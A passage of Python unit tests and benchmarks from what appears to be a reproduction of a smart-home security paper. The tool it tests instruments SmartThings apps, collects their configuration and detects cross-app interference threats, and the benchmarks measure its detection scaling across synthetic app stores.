        decode_uri("http://other.com/appname:x/")


def test_uri_missing_appname():
    with pytest.raises(ValueError):
        decode_uri("http://my.com/tv1:30/")


def test_device_id_shape_detection():
    # A value that merely looks numeric is a value, not a device id.
    original = ConfigPayload(app_name="A", values={"threshold": "12345678"})
    decoded = decode_uri(encode_uri(original))
    assert decoded.devices == {}
    assert decoded.values == {"threshold": "12345678"}


# ----------------------------------------------------------------------
# Instrumentation

def test_instrumentation_inserts_collect_call():
    app = app_by_name("ComfortTV")
    result = instrument_app(app.source, app.name)
    assert "collectConfigInfo(appname, devices, values)" in result.source
    assert 'input "patchedphone", "phone"' in result.source
    assert result.device_inputs == ["tSensor", "tv1", "window1"]
    assert result.value_inputs == ["threshold1"]


def test_instrumented_source_still_parses_and_extracts():
    app = app_by_name("ComfortTV")
    result = instrument_app(app.source, app.name)
    ruleset = extract_rules(result.source, app.name)
    # The original rule survives; instrumentation adds the updated()-time
    # SMS sink but no spurious device rules.
    commands = {rule.action.command for rule in ruleset.rules}
    assert "on" in commands


def test_instrumented_app_sends_uri_in_runtime():
    from repro.runtime import SmartHome

    app = app_by_name("ComfortTV")
    result = instrument_app(app.source, app.name)
    home = SmartHome()
    home.add_device("TV", "tv")
    home.add_device("Temp", "temperatureSensor")
    home.add_device("Window", "windowOpener")
    instance = home.install_app(
        result.source, app.name,
        bindings={"tv1": "TV", "tSensor": "Temp", "window1": "Window"},
        settings={"threshold1": 30, "patchedphone": "+15550100"},
    )
    instance.invoke("updated")
    sms = [m for m in home.messages if m.channel == "sms"]
    assert sms
    decoded = decode_uri(sms[-1].body)
    assert decoded.app_name == "ComfortTV"
    assert decoded.devices["tv1"] == home.device("TV").id
    assert decoded.values["threshold1"] == "30"


def test_http_transport_instrumentation():
    app = app_by_name("NightCare")
    result = instrument_app(app.source, app.name, transport="http")
    assert "patchedtoken" in result.source
    assert "httpPost" in result.source


def test_instrument_app_without_updated_method():
    source = '''
definition(name: "NoUpdate")
input "sw1", "capability.switch"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) { sw1.off() }
'''
    result = instrument_app(source, "NoUpdate")
    assert "def updated() {" in result.source


# ----------------------------------------------------------------------
# Messaging transports

def test_sms_latency_model():
    transport = SmsTransport(seed=1)
    records = [transport.send("http://my.com/appname:A/", None)
               for _ in range(100)]
    mean = sum(r.latency_ms for r in records) / len(records)
    # Paper: 3120 ms average over 100 trials; the model must land nearby.
    assert 2300 < mean < 3900
    assert all(r.latency_ms > CLOUD_PROCESSING_MS for r in records)


def test_http_faster_than_sms():
    sms = SmsTransport(seed=2)
    http = FcmHttpTransport(seed=2)
    sms_mean = sum(
        sms.send("u", None).latency_ms for _ in range(50)
    ) / 50
    http_mean = sum(
        http.send("u", None).latency_ms for _ in range(50)
    ) / 50
    assert http_mean < sms_mean
    assert 2.0 < sms_mean / http_mean < 4.5  # paper ratio ~2.9x


def test_sms_fails_when_roaming():
    transport = SmsTransport()
    transport.roaming = True
    with pytest.raises(ConnectionError):
        transport.send("uri", None)


def test_transport_delivers_to_receiver():
    transport = FcmHttpTransport(seed=3)
    received = []
    transport.connect(received.append)
    transport.send("http://my.com/appname:A/", None)
    assert len(received) == 1
    assert received[0].transport == "http"


# ----------------------------------------------------------------------
# Recorders

def test_config_recorder_identity_resolution():
    recorder = ConfigRecorder()
    p = payload()
    recorder.record(p, device_types={p.devices["tv1"]: "tv"})
    ref = DeviceRef("tv1", "capability.switch")
    identity, dtype = recorder.identity("ComfortTV", ref)
    assert identity == f"dev:{p.devices['tv1']}"
    assert dtype == "tv"


def test_config_recorder_unbound_input_is_unique():
    recorder = ConfigRecorder()
    ref = DeviceRef("ghost", "capability.switch")
    identity_a, _ = recorder.identity("AppA", ref)
    identity_b, _ = recorder.identity("AppB", ref)
    assert identity_a != identity_b


def test_config_recorder_input_values():
    recorder = ConfigRecorder()
    recorder.record(payload())
    assert recorder.input_value("ComfortTV", "threshold1") == 30
    assert recorder.input_value("ComfortTV", "nope") is None
    assert recorder.input_value("OtherApp", "threshold1") is None


def test_rule_recorder_history():
    recorder = RuleRecorder()
    rs1 = extract_rules(app_by_name("ComfortTV").source, "ComfortTV")
    rs2 = extract_rules(app_by_name("NightCare").source, "NightCare")
    recorder.record(rs1)
    recorder.record(rs2)
    assert recorder.rules_of("ComfortTV") is rs1
    installed = recorder.installed_rulesets(exclude="ComfortTV")
    assert [rs.app_name for rs in installed] == ["NightCare"]
    recorder.forget("NightCare")
    assert recorder.rules_of("NightCare") is None
