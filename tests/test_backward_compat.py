"""Backward-compatibility audit (paper §VIII-D.3)."""

from repro import HomeGuard
from repro.corpus import app_by_name
from repro.detector.types import ThreatType


def test_audit_existing_finds_threats_in_prior_installs():
    hg = HomeGuard(transport="http")
    hg.register_device("TV", "tv")
    hg.register_device("Temp", "temperatureSensor")
    hg.register_device("Window", "windowOpener")
    # Both apps were "already installed" before anyone looked at the
    # reviews (the user clicked Keep without reading).
    hg.install(app_by_name("ComfortTV"),
               devices={"tv1": "TV", "tSensor": "Temp", "window1": "Window"},
               values={"threshold1": 30})
    hg.install(app_by_name("ColdDefender"),
               devices={"tv2": "TV", "window2": "Window"},
               values={"weather": "rainy"})

    reviews = hg.audit_existing()
    assert len(reviews) == 2
    all_threats = [t for review in reviews for t in review.threats]
    assert any(t.type is ThreatType.ACTUATOR_RACE for t in all_threats)


def test_audit_existing_clean_home():
    hg = HomeGuard(transport="http")
    hg.register_device("Door", "contactSensor")
    hg.register_device("Valve", "waterValve")
    hg.install(app_by_name("WhenItRainsItPours"),
               devices={"leak1": "Door", "valve1": "Valve"})
    reviews = hg.audit_existing()
    assert len(reviews) == 1
    assert reviews[0].clean


def test_audit_covers_every_installed_app():
    hg = HomeGuard(transport="http")
    hg.register_device("TV", "tv")
    hg.register_device("Temp", "temperatureSensor")
    hg.register_device("Window", "windowOpener")
    hg.register_device("Voice", "speaker")
    for app_name, devices, values in [
        ("ComfortTV", {"tv1": "TV", "tSensor": "Temp", "window1": "Window"},
         {"threshold1": 30}),
        ("ColdDefender", {"tv2": "TV", "window2": "Window"},
         {"weather": "rainy"}),
        ("CatchLiveShow", {"voice": "Voice", "tv3": "TV"},
         {"showDay": "Thursday"}),
    ]:
        hg.install(app_by_name(app_name), devices=devices, values=values)
    reviews = hg.audit_existing()
    assert sorted(r.app_name for r in reviews) == [
        "CatchLiveShow", "ColdDefender", "ComfortTV",
    ]
