"""§VIII-B — rule-extractor coverage over the repository.

The paper first analysed 124/146 apps correctly, then fixed the special
cases (non-standard ``device.*`` input types as used by Feed My Pet and
Sleepy Time, and the undocumented ``runDaily`` API used by Camera Power
Scheduler) to reach full coverage.  Strict mode reproduces the pre-fix
failures; the default (post-fix) extractor handles all 146 apps, and the
36 Web-Services apps are excluded because they define no automation.
"""

import pytest

from repro.corpus import automation_apps, webservice_apps
from repro.rules.extractor import ExtractionError, RuleExtractor


def _coverage(strict: bool):
    extractor = RuleExtractor(strict_device_types=strict)
    ok, failed = [], []
    for app in automation_apps():
        try:
            ruleset = extractor.extract(app.source, app.name)
        except ExtractionError:
            failed.append(app.name)
            continue
        (ok if len(ruleset) > 0 else failed).append(app.name)
    return ok, failed


def test_coverage_after_fixes(benchmark):
    ok, failed = benchmark.pedantic(
        lambda: _coverage(strict=False), rounds=1, iterations=1
    )
    print("\n=== §VIII-B: extractor coverage (post-fix) ===")
    print(f"handled: {len(ok)}/146, failed: {failed}")
    assert len(ok) == 146
    assert failed == []


def test_coverage_strict_reproduces_prefix_failures():
    ok, failed = _coverage(strict=True)
    print("\n=== §VIII-B: extractor coverage (pre-fix, strict mode) ===")
    print(f"handled: {len(ok)}/146, failed: {sorted(failed)}")
    # Feed My Pet (device.petfeedershield) and Sleepy Time
    # (device.jawboneUser) are the non-standard-device-type failures.
    assert "FeedMyPet" in failed
    assert "SleepyTime" in failed
    assert len(ok) < 146


def test_webservices_excluded():
    extractor = RuleExtractor()
    automation_rule_counts = []
    for app in webservice_apps():
        ruleset = extractor.extract(app.source, app.name)
        subscriptions = [
            r for r in ruleset.rules if r.trigger.subject != "install"
        ]
        automation_rule_counts.append(len(subscriptions))
    print(f"\nWeb-Services apps: {len(automation_rule_counts)}, "
          f"automation rules found: {sum(automation_rule_counts)}")
    assert sum(automation_rule_counts) == 0
