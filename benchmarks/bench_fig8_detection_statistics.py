"""Fig. 8 — statistics of the detection result on 90 SmartApps.

Pairwise CAI detection over the 90 device-controlling repository apps,
reported as the number of apps involved in each threat class, broken
down by the paper's Switch / Mode / Others buckets.  The expected shape:
every threat class has instances, and apps controlling a commonly used
switch or the location mode tend to be involved in all threat kinds.
"""

from collections import defaultdict

from repro.corpus import app_by_name, device_controlling_apps
from repro.detector import DetectionEngine, ThreatType

_CLASSES = ["AR", "GC", "CT", "SD", "LT", "EC", "DC"]


def _run_detection(corpus_rulesets):
    rulesets, resolver = corpus_rulesets
    engine = DetectionEngine(resolver)
    threat_counts: dict[str, int] = defaultdict(int)
    apps_involved: dict[str, set] = defaultdict(set)
    for i in range(len(rulesets)):
        for j in range(i + 1, len(rulesets)):
            for rule_a in rulesets[i].rules:
                for rule_b in rulesets[j].rules:
                    for threat in engine.detect_pair(rule_a, rule_b):
                        key = threat.type.value
                        threat_counts[key] += 1
                        apps_involved[key].add(threat.rule_a.app_name)
                        apps_involved[key].add(threat.rule_b.app_name)
    return threat_counts, apps_involved, engine.stats


def test_fig8_detection_statistics(benchmark, corpus_rulesets):
    threat_counts, apps_involved, stats = benchmark.pedantic(
        lambda: _run_detection(corpus_rulesets), rounds=1, iterations=1,
    )

    category_of = {
        app.name: app.category for app in device_controlling_apps()
    }

    print("\n=== Fig. 8: CAI statistics over 90 device-controlling apps ===")
    print(f"{'class':<6}{'instances':>10}{'apps':>6}"
          f"{'switch':>8}{'mode':>6}{'other':>7}")
    for key in _CLASSES:
        involved = apps_involved.get(key, set())
        by_cat = defaultdict(int)
        for app_name in involved:
            by_cat[category_of.get(app_name, "other")] += 1
        print(
            f"{key:<6}{threat_counts.get(key, 0):>10}{len(involved):>6}"
            f"{by_cat['switch']:>8}{by_cat['mode']:>6}{by_cat['other']:>7}"
        )
    print(f"solver calls: {stats.solver_calls}, cache hits: {stats.cache_hits}")

    # Shape assertions (paper: "a lot of apps can cause CAI threats").
    for key in _CLASSES:
        assert threat_counts.get(key, 0) > 0, f"no {key} instances found"
    # Switch-controlling apps dominate every class (Fig. 8's bars).
    for key in _CLASSES:
        involved = apps_involved[key]
        switch_apps = sum(
            1 for name in involved if category_of.get(name) == "switch"
        )
        assert switch_apps >= len(involved) * 0.3
    # CT (covert triggering) is among the most numerous classes.
    assert threat_counts["CT"] >= threat_counts["LT"]
    assert threat_counts["CT"] >= threat_counts["DC"]
