"""Store-scale detection: brute force vs indexed pipeline vs warm start.

Audits synthetic stores of 50/200 (up to 5000) apps built by cloning
the template-generated corpus, with devices shared zone-wise (every
ZONE_SIZE consecutive apps share a deployment zone — a home or room
whose same-type devices alias, like the paper's deployment-mode
device-id binding).  All arms solve the exact same candidate pairs and
must report identical threat sets; the difference is purely how
candidates are found and whether solves are replayed from disk:

* the *seed* baseline scans all O(n²) rule pairs and re-derives action
  identities, effect channels and condition reads per pair (what
  `detect_rulesets` did before the signature layer);
* the *signed* brute force still scans all pairs but reuses memoized
  signatures (pipeline layer 1 only);
* the pipeline (`DetectionPipeline` over a `ShardedRuleIndex`) looks
  candidates up in the per-environment inverted index, so filtering
  work scales with candidates, not pairs;
* the *warm* arm saves the cold pipeline to a `DetectionStore`, then
  re-audits the unchanged store in a fresh pipeline — every solve must
  come from the persisted caches: **zero** solver calls (DESIGN.md §8);
* the *worker sweep* re-runs the cold audit in plan/execute mode
  (DESIGN.md §9/§10) with a `SerialDispatcher` and with 2/4/8 process
  workers — pooled arms shard the *planning* passes onto the workers
  too; every arm must report byte-identical threats **and produce
  byte-identical store files**, differing only in wall clock.  Pooled
  arms are recorded as `"skipped"` on hosts with fewer than 2 CPUs:
  there is no parallel hardware to measure, and recording 0.5x
  "speedups" from pure pool overhead would poison the trajectory.

Shape to reproduce: the indexed pipeline beats the seed's brute force
by >= 5x wall-clock at 200 apps (both total and filtering-only),
solver calls grow with the candidate count (~linearly in n under zoned
sharing, not n²), the warm re-audit does 0 solver calls at every size
while reporting the identical threat set, and — on hosts with >= 4
CPUs — 4 process workers give >= 2x cold-audit speedup over the
serial dispatcher at 2k apps (the speedup assertion is skipped on
smaller hosts, where there is no parallel hardware to measure; the
identity assertions always run).

The brute-force arms are skipped above ``BRUTE_LIMIT`` apps (the O(n²)
scan at 5k apps is exactly what this subsystem exists to avoid).

Select sizes with BENCH_STORE_SIZES (comma-separated; default "50,200"
under pytest, "50,200,500,2000,5000" when run as a script) and worker
counts with BENCH_WORKER_COUNTS (default "1,2" under pytest, "1,2,4,8"
as a script; "1" means the serial dispatcher).  Script runs also write
``BENCH_store_scale.json`` at the repo root as a machine-readable
trajectory point (pytest/CI smoke passes leave the committed artifact
alone).
"""

from __future__ import annotations

import json
import os
import tempfile
import time
from dataclasses import dataclass, field, replace
from pathlib import Path

from repro.constraints.dispatch import ProcessPoolDispatcher, SerialDispatcher
from repro.corpus import device_controlling_apps
from repro.detector import (
    DetectionEngine,
    DetectionPipeline,
    DetectionStore,
    ShardedRuleIndex,
    compute_signature,
)
from repro.rules.extractor import RuleExtractor
from repro.rules.model import RuleSet
from repro.symex.values import DeviceRef

ZONE_SIZE = 8
# Largest size the O(n²) brute-force arms still run at.
BRUTE_LIMIT = 500
_FULL_SWEEP = "50,200,500,2000,5000"
_FULL_WORKER_SWEEP = "1,2,4,8"
SIZES = [
    int(size)
    for size in os.environ.get("BENCH_STORE_SIZES", "50,200").split(",")
    if size.strip()
]
WORKER_COUNTS = [
    int(count)
    for count in os.environ.get("BENCH_WORKER_COUNTS", "1,2").split(",")
    if count.strip()
]
# The >= 2x speedup gates need parallel hardware under the process
# workers; pooled arms are skipped entirely below 2 CPUs.
_SPEEDUP_MIN_CPUS = 4
_SPEEDUP_AT_SIZE = 2000
_SPEEDUP_WORKERS = 4
_SPEEDUP_FACTOR = 2.0
# Parallel planning (DESIGN.md §10): with 4 workers the coordinator's
# planning wall time must drop >= 2x vs the single-planner serial arm.
_PLAN_SPEEDUP_FACTOR = 2.0
_RESULTS_PATH = Path(__file__).resolve().parent.parent / "BENCH_store_scale.json"
# Regression gate (opt-in via BENCH_REGRESSION_GATE=1, set by `make
# bench-smoke`): the cold indexed audit at this size may not be more
# than 25% slower than the committed BENCH_store_scale.json baseline.
_GATE_SIZE = 200
_GATE_SLOWDOWN = 1.25
# Set by the __main__ entry point: only dedicated script runs write the
# repo-root trajectory artifact.  BENCH_EMIT_PATH additionally writes
# every run's results to the named file (CI uploads it as an artifact)
# without touching the committed baseline.
_EMIT_TRAJECTORY = False


@dataclass(slots=True)
class ZonedResolver:
    """Deployment-style identity: same-type devices alias only within
    an app's zone, so candidate density stays realistic as the store
    grows (unlike pure type-based analysis, where every clone of an app
    collides with every other)."""

    type_hints: dict[str, dict[str, str]] = field(default_factory=dict)
    values: dict[str, dict[str, object]] = field(default_factory=dict)
    zones: dict[str, int] = field(default_factory=dict)

    def identity(self, app_name: str, ref: DeviceRef) -> tuple[str, str | None]:
        zone = self.zones.get(app_name, 0)
        hint = self.type_hints.get(app_name, {}).get(ref.name)
        if hint is not None:
            return f"z{zone}:{hint}", hint
        cap_name = ref.capability.split(".", 1)[-1]
        return f"z{zone}:cap:{cap_name}", None

    def input_value(self, app_name: str, input_name: str) -> object | None:
        return self.values.get(app_name, {}).get(input_name)

    def environment(self, app_name: str) -> str:
        # One environment per zone: temperature/illuminance/... are
        # features of a home, not of the whole store.
        return f"z{self.zones.get(app_name, 0)}"


def _clone_ruleset(base: RuleSet, clone_name: str) -> RuleSet:
    rules = [
        replace(
            rule,
            app_name=clone_name,
            rule_id=f"{clone_name}/R{i + 1}",
        )
        for i, rule in enumerate(base.rules)
    ]
    return RuleSet(app_name=clone_name, rules=rules, inputs=dict(base.inputs))


def build_store(size: int) -> tuple[list[RuleSet], ZonedResolver]:
    """A ``size``-app store cloned from the generated corpus."""
    apps = list(device_controlling_apps())
    extractor = RuleExtractor()
    base_rulesets = {
        app.name: extractor.extract(app.source, app.name) for app in apps
    }
    resolver = ZonedResolver()
    rulesets = []
    for k in range(size):
        app = apps[k % len(apps)]
        clone_name = f"{app.name}X{k}"
        rulesets.append(_clone_ruleset(base_rulesets[app.name], clone_name))
        resolver.type_hints[clone_name] = app.type_hints
        resolver.values[clone_name] = app.values
        resolver.zones[clone_name] = k // ZONE_SIZE
    return rulesets, resolver


def _threat_keys(threats) -> set[tuple[str, str, str]]:
    return {
        (t.type.value, t.rule_a.rule_id, t.rule_b.rule_id) for t in threats
    }


def _run_seed_brute(rulesets, resolver):
    """The seed's all-pairs scan: every per-pair candidate test
    re-derives identities/effects/reads from scratch (no signature
    memo), exactly like the pre-refactor engine."""
    engine = DetectionEngine(resolver)
    threats = set()
    started = time.perf_counter()
    for i, new_ruleset in enumerate(rulesets):
        for other in rulesets[:i]:
            for rule_a in new_ruleset.rules:
                for rule_b in other.rules:
                    found = engine.detect_signed(
                        compute_signature(resolver, rule_a),
                        compute_signature(resolver, rule_b),
                    )
                    threats.update(_threat_keys(found))
        rules = new_ruleset.rules
        for j, rule_a in enumerate(rules):
            for rule_b in rules[j + 1:]:
                found = engine.detect_signed(
                    compute_signature(resolver, rule_a),
                    compute_signature(resolver, rule_b),
                )
                threats.update(_threat_keys(found))
    return time.perf_counter() - started, threats, engine.stats


def _run_signed_brute(rulesets, resolver):
    """All-pairs scan over memoized signatures (layer 1 only)."""
    engine = DetectionEngine(resolver)
    threats = set()
    started = time.perf_counter()
    for i, ruleset in enumerate(rulesets):
        report = engine.detect_rulesets(ruleset, rulesets[:i])
        threats.update(_threat_keys(report.threats))
    return time.perf_counter() - started, threats, engine.stats


def _run_indexed(rulesets, resolver):
    pipeline = DetectionPipeline(resolver, index=ShardedRuleIndex())
    threats = set()
    started = time.perf_counter()
    for report in pipeline.audit_store(rulesets):
        threats.update(_threat_keys(report.threats))
    return time.perf_counter() - started, threats, pipeline


def _run_warm(store_dir, rulesets, resolver):
    """Persist nothing here — the caller saved the cold pipeline; this
    arm warm-starts a *fresh* pipeline from disk and re-audits."""
    store = DetectionStore(store_dir)
    threats = set()
    started = time.perf_counter()
    warm = store.warm_start(resolver, rulesets)
    elapsed = time.perf_counter() - started
    for report in warm.reports:
        threats.update(_threat_keys(report.threats))
    return elapsed, threats, warm


def _store_files(store_dir) -> dict[str, bytes]:
    return {
        path.name: path.read_bytes()
        for path in sorted(Path(store_dir).iterdir())
    }


def _run_worker_arm(rulesets, resolver, workers: int):
    """Cold plan/execute audit with a serial (workers=1) or process
    dispatcher; returns wall seconds, the ordered threat tuple (full
    fidelity: details and witnesses included) and the store bytes the
    audited pipeline persists."""
    dispatcher = (
        SerialDispatcher() if workers <= 1 else ProcessPoolDispatcher(workers)
    )
    pipeline = DetectionPipeline(
        resolver, index=ShardedRuleIndex(), dispatcher=dispatcher
    )
    try:
        started = time.perf_counter()
        reports = pipeline.audit_store(rulesets)
        elapsed = time.perf_counter() - started
        threats = tuple(
            (t.type.value, t.rule_a.rule_id, t.rule_b.rule_id, t.detail,
             t.witness)
            for report in reports
            for t in report.threats
        )
        with tempfile.TemporaryDirectory() as store_dir:
            DetectionStore(store_dir).save(
                pipeline, rulesets={r.app_name: r for r in rulesets}
            )
            store_bytes = _store_files(store_dir)
        return elapsed, threats, store_bytes, pipeline.stats
    finally:
        pipeline.close()


def _worker_sweep(size, rulesets, resolver, results):
    """The plan/execute arm: every backend must be byte-identical to
    the serial dispatcher; process workers should only change the wall
    clock (and do, given CPUs to run on).  Pooled arms are skipped —
    and recorded as such — on single-CPU hosts."""
    counts = sorted(set(WORKER_COUNTS))
    if 1 not in counts:
        counts = [1] + counts
    cpus = os.cpu_count() or 1
    sweep = {}
    reference = None
    serial_seconds = None
    for workers in counts:
        if workers > 1 and cpus < 2:
            sweep[workers] = "skipped"
            print(
                f"      workers={workers}: skipped "
                f"(host has {cpus} CPU, nothing parallel to measure)"
            )
            continue
        elapsed, threats, store_bytes, stats = _run_worker_arm(
            rulesets, resolver, workers
        )
        if workers <= 1:
            serial_seconds = elapsed
            reference = (threats, store_bytes)
        else:
            assert threats == reference[0], (
                f"{workers}-worker audit changed the threat output "
                f"at {size} apps"
            )
            assert store_bytes == reference[1], (
                f"{workers}-worker audit changed the persisted store "
                f"at {size} apps"
            )
        sweep[workers] = {
            "seconds": elapsed,
            "speedup_vs_serial": (
                serial_seconds / elapsed if elapsed else float("inf")
            ),
            "apps_per_second": size / elapsed if elapsed else float("inf"),
            "plan_seconds": stats.plan_seconds,
            "plan_cpu_seconds": stats.plan_cpu_seconds,
            "dispatch_seconds": stats.dispatch_seconds,
            "solver_cpu_seconds": stats.solver_cpu_seconds(),
            "prescreen_pruned_pairs": stats.prescreen_pruned_pairs,
            "planned_pairs": stats.planned_pairs,
        }
        print(
            f"      workers={workers}: {elapsed * 1000:>8.1f} ms "
            f"({sweep[workers]['speedup_vs_serial']:.2f}x serial, "
            f"plan {stats.plan_seconds * 1000:.0f} ms, "
            f"blocked {stats.dispatch_seconds * 1000:.0f} ms, "
            f"pruned {stats.prescreen_pruned_pairs})"
        )
    results[size]["workers"] = {
        str(workers): metrics for workers, metrics in sweep.items()
    }
    if (
        size >= _SPEEDUP_AT_SIZE
        and isinstance(sweep.get(_SPEEDUP_WORKERS), dict)
        and cpus >= _SPEEDUP_MIN_CPUS
    ):
        speedup = sweep[_SPEEDUP_WORKERS]["speedup_vs_serial"]
        assert speedup >= _SPEEDUP_FACTOR, (
            f"{_SPEEDUP_WORKERS} process workers only {speedup:.2f}x over "
            f"the serial dispatcher at {size} apps "
            f"(needed {_SPEEDUP_FACTOR}x)"
        )
        # Parallel planning: the coordinator's planning wall time must
        # shrink too, not just the solve phase (DESIGN.md §10).
        serial_plan = sweep[1]["plan_seconds"]
        pooled_plan = sweep[_SPEEDUP_WORKERS]["plan_seconds"]
        assert pooled_plan * _PLAN_SPEEDUP_FACTOR <= serial_plan, (
            f"chunked planning with {_SPEEDUP_WORKERS} workers spent "
            f"{pooled_plan:.2f}s of coordinator plan wall vs "
            f"{serial_plan:.2f}s single-planner at {size} apps "
            f"(needed {_PLAN_SPEEDUP_FACTOR}x)"
        )


def test_store_scale_indexed_vs_brute_force():
    print("\n=== Store-scale audit: brute force vs indexed vs warm ===")
    header = (
        f"{'apps':>5} {'pairs bf':>9} {'pairs idx':>10} {'solves':>7} "
        f"{'seed ms':>9} {'signed ms':>10} {'index ms':>9} {'warm ms':>8} "
        f"{'total x':>8} {'filter x':>9} {'warm x':>7}"
    )
    print(header)
    results = {}
    gate_store = None
    for size in SIZES:
        rulesets, resolver = build_store(size)
        run_brute = size <= BRUTE_LIMIT
        if run_brute:
            seed_s, seed_threats, seed_stats = _run_seed_brute(
                rulesets, resolver
            )
            signed_s, signed_threats, signed_stats = _run_signed_brute(
                rulesets, resolver
            )
        index_s, index_threats, pipeline = _run_indexed(rulesets, resolver)
        index_stats = pipeline.stats

        with tempfile.TemporaryDirectory() as store_dir:
            DetectionStore(store_dir).save(
                pipeline, rulesets={r.app_name: r for r in rulesets}
            )
            warm_s, warm_threats, warm = _run_warm(
                store_dir, rulesets, resolver
            )

        # Equivalence: identical threat sets and identical solver work
        # across every strategy; the warm replay of an unchanged store
        # additionally performs ZERO solver calls (everything is served
        # from the persisted caches).
        if run_brute:
            assert signed_threats == seed_threats
            assert index_threats == seed_threats
            assert index_stats.solver_calls == seed_stats.solver_calls
            assert index_stats.solver_calls == signed_stats.solver_calls
        assert warm_threats == index_threats
        assert not warm.stale_apps
        assert warm.pipeline.stats.solver_calls == 0, (
            f"warm re-audit of an unchanged {size}-app store made "
            f"{warm.pipeline.stats.solver_calls} solver calls"
        )

        # The prescreen must prune pairs (below the index's raw
        # candidate count) without changing a single reported threat —
        # the threat-set equality above is the "zero change" witness.
        assert index_stats.prescreen_pruned_pairs > 0, (
            f"prescreen pruned nothing at {size} apps"
        )
        assert index_stats.planned_pairs == index_stats.pairs_examined

        index_filter = index_s - index_stats.total_solve_seconds()
        warm_speedup = index_s / warm_s if warm_s else float("inf")
        results[size] = {
            "solver_calls": index_stats.solver_calls,
            "pairs_idx": index_stats.pairs_examined,
            "prescreen_pruned_pairs": index_stats.prescreen_pruned_pairs,
            "planned_pairs": index_stats.planned_pairs,
            "threats": len(index_threats),
            "index_seconds": index_s,
            "warm_seconds": warm_s,
            "warm_solver_calls": warm.pipeline.stats.solver_calls,
            "warm_speedup": warm_speedup,
        }
        if run_brute:
            seed_filter = seed_s - seed_stats.total_solve_seconds()
            total_speedup = seed_s / index_s if index_s else float("inf")
            filter_speedup = (
                seed_filter / index_filter if index_filter else float("inf")
            )
            results[size].update(
                pairs_bf=seed_stats.pairs_examined,
                seed_seconds=seed_s,
                total_speedup=total_speedup,
                filter_speedup=filter_speedup,
            )
            print(
                f"{size:>5} {seed_stats.pairs_examined:>9} "
                f"{index_stats.pairs_examined:>10} "
                f"{index_stats.solver_calls:>7} {seed_s * 1000:>9.1f} "
                f"{signed_s * 1000:>10.1f} {index_s * 1000:>9.1f} "
                f"{warm_s * 1000:>8.1f} {total_speedup:>8.1f} "
                f"{filter_speedup:>9.1f} {warm_speedup:>7.1f}"
            )
        else:
            print(
                f"{size:>5} {'-':>9} {index_stats.pairs_examined:>10} "
                f"{index_stats.solver_calls:>7} {'-':>9} {'-':>10} "
                f"{index_s * 1000:>9.1f} {warm_s * 1000:>8.1f} "
                f"{'-':>8} {'-':>9} {warm_speedup:>7.1f}"
            )
        _worker_sweep(size, rulesets, resolver, results)
        if size == _GATE_SIZE:
            gate_store = (rulesets, resolver)

        # The superlinear win: the indexed pipeline must beat the seed's
        # all-pairs scan by >= 5x once the store is large.
        if run_brute and size >= 200:
            assert total_speedup >= 5.0, (
                f"indexed pipeline only {total_speedup:.1f}x faster "
                f"at {size} apps"
            )
            assert filter_speedup >= 5.0, (
                f"indexed filtering only {filter_speedup:.1f}x faster "
                f"at {size} apps"
            )

    # Solver calls must track the candidate count (index-selected pairs),
    # not the quadratic pair count.
    sizes = sorted(results)
    brute_sizes = [s for s in sizes if "pairs_bf" in results[s]]
    if len(brute_sizes) >= 2:
        small, large = brute_sizes[0], brute_sizes[-1]
        pair_growth = (
            results[large]["pairs_bf"] / results[small]["pairs_bf"]
        )
        solve_growth = (
            results[large]["solver_calls"] / results[small]["solver_calls"]
        )
        candidate_growth = (
            results[large]["pairs_idx"] / results[small]["pairs_idx"]
        )
        print(
            f"growth {small}->{large} apps: pairs x{pair_growth:.1f}, "
            f"candidates x{candidate_growth:.1f}, solves x{solve_growth:.1f}"
        )
        # Near-quadratic all-pairs growth vs near-linear candidate/solve
        # growth under zoned device sharing.
        assert solve_growth <= candidate_growth * 1.5
        assert solve_growth < pair_growth / 2
    if len(sizes) >= 2:
        small, large = sizes[0], sizes[-1]
        solve_growth = (
            results[large]["solver_calls"] / results[small]["solver_calls"]
        )
        # Candidate work stays ~linear in the store size even at 5k
        # apps (zoned sharing), never quadratic.
        assert solve_growth <= (large / small) * 1.5

    _baseline_gate(results, gate_store)

    # Only a dedicated script run overwrites the committed trajectory
    # point — pytest/CI smoke passes with reduced sizes must not
    # clobber the full-sweep artifact.  An explicit BENCH_EMIT_PATH
    # gets this run's results either way (the CI artifact).
    if _EMIT_TRAJECTORY:
        _emit_trajectory(results, _RESULTS_PATH)
    emit_path = os.environ.get("BENCH_EMIT_PATH")
    if emit_path:
        _emit_trajectory(results, Path(emit_path))


def _baseline_gate(results: dict, gate_store) -> None:
    """`bench-smoke` regression gate (opt-in via BENCH_REGRESSION_GATE):
    fail when the cold indexed audit at `_GATE_SIZE` apps is more than
    `_GATE_SLOWDOWN`x slower than the committed baseline JSON.

    A sub-second wall measurement on a shared CI runner jitters well
    past 25%, so a breach is confirmed best-of-3: the cold audit is
    re-run on a fresh pipeline and only the fastest attempt is gated —
    a real regression slows every attempt, noise doesn't."""
    if not os.environ.get("BENCH_REGRESSION_GATE"):
        return
    if _GATE_SIZE not in results or not _RESULTS_PATH.exists():
        return
    try:
        baseline = json.loads(_RESULTS_PATH.read_text(encoding="utf-8"))
        baseline_seconds = baseline["sizes"][str(_GATE_SIZE)]["index_seconds"]
    except (ValueError, KeyError, TypeError):
        return  # unreadable baseline: nothing trustworthy to gate on
    measured = results[_GATE_SIZE]["index_seconds"]
    budget = baseline_seconds * _GATE_SLOWDOWN
    retries = 2
    while measured > budget and gate_store is not None and retries:
        retries -= 1
        rulesets, resolver = gate_store
        attempt, _threats, _pipeline = _run_indexed(rulesets, resolver)
        measured = min(measured, attempt)
    print(
        f"bench-smoke gate: cold {_GATE_SIZE}-app audit {measured:.3f}s "
        f"vs committed {baseline_seconds:.3f}s (budget {budget:.3f}s)"
    )
    assert measured <= budget, (
        f"cold {_GATE_SIZE}-app audit regressed: {measured:.3f}s vs "
        f"committed baseline {baseline_seconds:.3f}s "
        f"(>{_GATE_SLOWDOWN}x budget)"
    )


def _emit_trajectory(results: dict, path: Path) -> None:
    """Write the machine-readable trajectory point next to the repo's
    other BENCH_*.json artifacts."""
    payload = {
        "benchmark": "store_scale",
        "zone_size": ZONE_SIZE,
        "cpu_count": os.cpu_count() or 1,
        "sizes": {str(size): metrics for size, metrics in results.items()},
        "warm_reaudit_zero_solver_calls": all(
            metrics["warm_solver_calls"] == 0 for metrics in results.values()
        ),
    }
    path.write_text(
        json.dumps(payload, indent=1, sort_keys=True), encoding="utf-8"
    )
    print(f"trajectory point written to {path.name}")


if __name__ == "__main__":
